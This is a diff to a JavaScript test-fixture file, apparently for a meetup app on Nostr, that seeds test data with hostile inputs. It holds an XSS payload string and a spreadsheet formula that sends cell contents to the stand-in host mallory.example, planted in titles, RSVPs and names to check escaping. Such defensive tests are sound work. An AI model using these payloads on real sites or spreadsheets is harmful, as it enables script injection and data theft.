@@ -15,6 +15,9 @@ const DAY = 86_400;
 export const HOSTILE = '"><script>alert(1)</script><img src=x onerror=alert(2)>\u202etxt.exe 👩‍👩‍👧‍👦 {{7*7}} '
   + 'x'.repeat(10_000);
 
+/** What a spreadsheet would compute, and send elsewhere. */
+export const FORMULA = '=HYPERLINK("https://mallory.example/?"&A1,"see")';
+
 /** The secret key of a person of the tests. */
 export function person(number) {
   return Uint8Array.from({ length: 32 }, (_, at) => (at === 31 ? number : 1));
@@ -24,6 +27,9 @@ export const ANNA = person(1);
 export const BEN = person(2);
 export const CLARA = person(3);
 export const MALLORY = person(66);
+export const ADMINISTRATOR = person(42);
+/** Another one like Mallory. */
+const EVE = person(67);
 
 /** A note of a person, a minute old. */
 export function note(secret, kind, tags, content = '', created_at = now() - 60) {
@@ -78,9 +84,9 @@ export function addressOf(event) {
 }
 
 /** An answer to a meetup. */
-export function rsvp(secret, of, status, tags = []) {
+export function rsvp(secret, of, status, tags = [], word = '') {
   const address = addressOf(of);
-  return note(secret, 31925, [['d', `answer to ${address}`], ['a', address], ['e', of.id], ['status', status], ...tags]);
+  return note(secret, 31925, [['d', `answer to ${address}`], ['a', address], ['e', of.id], ['status', status], ...tags], word);
 }
 
 /** A comment on a meetup. */
@@ -101,6 +107,15 @@ export function follows(secret, communities, more = []) {
 export function soon(days) {
   const today = Math.floor(now() / DAY) * DAY;
   return today + days * DAY + 18 * 3_600;
+}
+
+/** Lists of an owner: members, the muted with a reason, and meetups of others that are the community's own. */
+function lists({ id, owner }, { member, muted, reason, adopted }) {
+  return [
+    note(owner, 30000, [['d', id], ['title', 'Members'], ['p', publicKeyOf(member)]]),
+    note(owner, 30000, [['d', `${id}:blocked`], ['title', 'Blocked'], ['p', publicKeyOf(muted), '', '', reason]]),
+    note(owner, 31924, [['d', id], ['title', 'Calendar'], ['a', addressOf(adopted)]]),
+  ];
 }
 
 async function real() {
@@ -159,7 +174,15 @@ export async function world({ isFriendly = false } = {}) {
   const strangeMeetup = meetup(MALLORY, strange, 'strange', {
     title: HOSTILE, about: HOSTILE, tags: [['summary', HOSTILE], ['location', HOSTILE], ['t', HOSTILE], ['r', HOSTILE]],
   });
-  const names = [[ANNA, 'Anna'], [BEN, 'Ben'], [CLARA, 'Clara'], [MALLORY, HOSTILE]].map(
+  // What others bring to the pages of organizers.
+  const [proposed, adopted] = ['proposed', 'adopted'].map((slug) => meetup(EVE, strange, slug, { title: HOSTILE }));
+  const outsider = person(68);
+  const ofOrganizers = [
+    proposed, adopted, ...lists(strange, { member: EVE, muted: outsider, reason: HOSTILE, adopted }),
+    rsvp(EVE, strangeMeetup, 'tentative', [], HOSTILE), rsvp(CLARA, strangeMeetup, 'accepted', [], FORMULA),
+    note(outsider, 0, [], JSON.stringify({ name: HOSTILE })),
+  ];
+  const names = [[ANNA, 'Anna'], [BEN, 'Ben'], [CLARA, 'Clara'], [MALLORY, HOSTILE], [EVE, HOSTILE]].map(
     ([secret, name]) => note(secret, 0, [], JSON.stringify({ name })),
   );
   const chatter = Array.from({ length: 45 }, (_, at) => say(
@@ -167,7 +190,7 @@ export async function world({ isFriendly = false } = {}) {
   ));
   const events = [
     ...communities.flatMap(({ events }) => events), ...strange.events, ...names,
-    stammtisch, seats, cancelled, past, strangeMeetup, room, ...chatter,
+    stammtisch, seats, cancelled, past, strangeMeetup, room, ...chatter, ...(isFriendly ? [] : ofOrganizers),
     follows(BEN, [luebeck]), follows(CLARA, [luebeck]), follows(MALLORY, [strange]),
     ...(isFriendly ? others() : []),
     rsvp(BEN, stammtisch, 'accepted'), rsvp(CLARA, stammtisch, 'tentative'),
